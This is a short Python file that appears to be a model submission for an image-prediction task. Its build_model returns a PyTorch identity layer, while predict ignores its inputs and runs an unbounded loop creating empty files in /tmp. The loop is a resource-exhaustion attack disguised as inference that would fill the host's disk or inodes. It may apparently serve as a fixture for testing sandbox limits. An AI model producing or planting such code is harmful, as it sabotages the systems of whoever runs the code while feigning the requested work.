from torch import nn


def build_model():
    return nn.Identity()


def predict(model, images):
    number = 0
    while True:
        open(f"/tmp/{number}", "w").close()
        number += 1
